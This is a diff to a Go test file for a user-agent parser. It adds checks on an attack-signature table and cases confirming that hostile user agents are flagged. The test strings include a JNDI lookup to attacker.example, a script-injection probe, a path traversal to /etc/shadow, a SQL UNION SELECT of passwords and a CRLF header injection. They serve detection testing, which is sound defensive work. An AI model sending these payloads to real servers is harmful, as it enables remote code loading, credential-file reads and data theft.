@@ -1,6 +1,7 @@
 package uaparse
 
 import (
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -30,8 +31,16 @@ func TestTablesWellFormed(t *testing.T) {
 		seen := map[string]bool{}
 		for _, r := range rows {
 			key := r[0]
-			if e.Name() == "cpu.tsv" {
+			switch e.Name() {
+			case "cpu.tsv":
 				key = r[0] + " " + r[1]
+			case "attack_signatures.tsv":
+				key = r[0] + " " + r[1]
+				// The loader matches fragments on the lower case user
+				// agent: an upper case fragment would never match.
+				if f, err := strconv.Unquote(r[1]); err != nil || f == "" || f != strings.ToLower(f) {
+					t.Errorf("tables/attack_signatures.tsv: %s is not a quoted, non-empty, lower case fragment", r[1])
+				}
 			}
 			if seen[key] {
 				t.Errorf("tables/%s: %q is listed twice", e.Name(), key)
@@ -95,6 +104,17 @@ func TestTableFactsReachTheAnalyzer(t *testing.T) {
 		{"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:89.0) Gecko/20100101 Firefox/89.0", "OperatingSystemName", "Ubuntu"},
 		// cpu.tsv
 		{"Mozilla/5.0 (X11; Linux aarch64; rv:89.0) Gecko/20100101 Firefox/89.0", "DeviceCpu", "AArch64"},
+		// app_spellings.tsv (Spark's desktop app, an Electron shell)
+		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) SparkMail/3.20.1 Chrome/120.0.6099.109 Safari/537.36", "AgentName", "Spark mail"},
+		// robot_device_names.tsv
+		{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "DeviceName", "Microsoft BingBot"},
+		// attack_signatures.tsv, one fragment of each family
+		{"Mozilla/5.0 ${jndi:ldap://attacker.example/a}", "HackerAttackVector", "Code Injection"},
+		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) <script>alert(1)</script>", "HackerAttackVector", "Code Injection"},
+		{"curl/8.0 ../../../../etc/shadow", "HackerAttackVector", "Path Traversal"},
+		{"Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/120.0.0.0' UNION SELECT password FROM users--", "HackerAttackVector", "Code Injection"},
+		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64)%0d%0aX-Forwarded-For: 127.0.0.1", "DeviceClass", "Hacker"},
+		{"Mozlila/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36", "DeviceClass", "Hacker"},
 	} {
 		if got := a.Analyze(c.ua).Get(c.attr); got != c.want {
 			t.Errorf("%s of %q = %q, want %q", c.attr, c.ua, got, c.want)
